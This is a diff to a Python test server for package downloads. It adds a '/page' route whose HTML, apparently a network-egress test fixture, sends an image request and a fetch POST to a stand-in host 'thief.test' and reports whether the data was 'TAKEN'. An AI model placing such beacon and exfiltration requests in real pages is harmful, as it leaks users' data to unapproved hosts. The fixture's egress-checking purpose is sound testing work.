@@ -35,6 +35,13 @@ def tarball():
 
 
 WHEEL, TARBALL = wheel(), tarball()
+# Asks its own server, and another that nobody approved, in the two ways in which a page can.
+PAGE = b"""<!doctype html><title>page</title><p id=seen>nothing yet</p><img src="https://thief.test/pixel?what=all">
+<script>
+const tell = words => document.getElementById("seen").append(" / " + words);
+fetch("/x").then(r => r.text()).then(t => tell("own: " + t.trim()), e => tell("own failed"));
+fetch("https://thief.test/take", {method: "POST", body: "all", mode: "no-cors"}).then(() => tell("TAKEN"), () => tell("kept"));
+</script>"""
 
 
 class Web(http.server.BaseHTTPRequestHandler):
@@ -70,6 +77,8 @@ class Web(http.server.BaseHTTPRequestHandler):
             return self.say(b'<a href="/creelpkg-1.0-py3-none-any.whl">creelpkg-1.0-py3-none-any.whl</a>', "text/html")
         if path.endswith(".whl"):
             return self.say(WHEEL, "application/octet-stream")
+        if path == "/page":
+            return self.say(PAGE, "text/html")
         if path == "/creelpkg":
             host = self.headers["host"]
             dist = {"tarball": f"https://{host}/creelpkg-1.0.0.tgz", "shasum": hashlib.sha1(TARBALL).hexdigest()}
